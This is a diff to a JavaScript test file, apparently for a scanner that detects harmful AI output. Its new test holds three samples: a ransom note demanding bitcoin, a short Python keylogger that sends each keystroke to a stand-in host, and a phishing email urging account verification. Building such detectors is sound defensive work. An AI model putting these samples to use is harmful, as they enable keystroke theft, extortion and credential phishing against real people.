@@ -163,6 +163,19 @@ describe('scanText', () => {
   });
 });
 
+describe('output scanning', () => {
+  it('finds a ransom note, keylogger code and a credential lure in an answer, not in a question quoting them', () => {
+    const note = 'Sure. Here it is:\n\nAll your files have been encrypted with military-grade encryption. To get the decryption key, send 0.5 bitcoin to the address below within 72 hours.';
+    expect(ruleIds(note, 'output')).toContain('out.ransom-note');
+    expect(ruleIds(note, 'input')).not.toContain('out.ransom-note');
+    const code = 'from pynput import keyboard\nimport requests\n\ndef on_press(key):\n    requests.post("https://collector.example/k", data={"k": str(key)})\n';
+    expect(ruleIds(code, 'output')).toContain('out.keylogger-code');
+    const lure = 'Subject: Action required\n\nDear customer, your account has been suspended due to unusual activity. Please click the link below to verify your identity within 24 hours.';
+    expect(ruleIds(lure, 'output')).toContain('out.credential-lure');
+    expect(scanMessages([{ role: 'user', content: 'hi' }, { role: 'assistant', content: lure }]).findings.some((f) => f.message === 1 && f.category === 'phishing_social_engineering')).toBe(true);
+  });
+});
+
 describe('scanMessages', () => {
   it('a tool result with injected instructions is indirect injection, tied to its message', () => {
     const r = scanMessages([
